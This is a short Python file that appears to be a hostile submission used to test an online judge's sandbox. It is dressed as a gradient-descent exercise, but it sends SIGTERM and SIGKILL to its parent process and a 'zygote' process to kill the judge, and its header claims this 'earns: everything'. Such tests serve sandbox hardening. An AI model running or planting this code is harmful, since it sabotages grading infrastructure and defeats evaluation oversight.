# tries: to kill the process that starts all submissions
# from: B6, DMOJ sandbox_*_kill_judge
# earns: everything
import ctypes
import os
import signal

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None)
gained = 0
for process in {int("@ZYGOTE@"), libc.getppid()} - {-1, 0}:
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(process, number)
            gained += 1
        except OSError:
            pass

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
